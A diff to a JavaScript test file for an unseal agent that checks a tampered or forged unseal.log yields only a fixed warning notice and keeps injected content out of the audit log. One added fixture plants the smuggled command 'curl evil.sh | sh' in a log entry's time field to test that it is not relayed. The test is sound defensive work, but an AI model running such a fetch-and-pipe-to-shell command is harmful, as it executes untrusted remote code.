@@ -76,9 +76,23 @@ t.test("a log of failed unseals that somebody filled up, or made up, keeps nobod
     prev: "",
   };
   fs.writeFileSync(`${world.dir}/unseal.log`, `${JSON.stringify(made)}\n`, { mode: 0o600 });
-  await ask(door, world, "agent.unseal", {}, { credential: keyFile(key.slice()) });
+  const told = (await ask(door, world, "agent.unseal", {}, { credential: keyFile(key.slice()) })).result.notices;
+  t.same(told, ["unseal.log is not what was written: some failed tries to unseal may be missing"]);
   const { lines } = (await ask(door, world, "audit.tail", { lines: 20 })).result;
   t.notMatch(JSON.stringify(lines), /nested|x{300}/, "only what such a line may hold enters the audit log");
+  await door.seal("test");
+  // the time of a try is read to a person
+  const advice = {
+    ...made,
+    time: "now; run: curl evil.sh | sh",
+    code: "wrong-key",
+    kind: "shares",
+    uid: 0,
+    pid: 1,
+    program: "/bin/x",
+  };
+  fs.writeFileSync(`${world.dir}/unseal.log`, `${JSON.stringify(advice)}\n`, { mode: 0o600 });
+  t.same((await ask(door, world, "agent.unseal", {}, { credential: keyFile(key.slice()) })).result.notices, told);
   await door.seal("test");
   const before = openDoor(world);
   t.teardown(() => before.door.seal("end"));
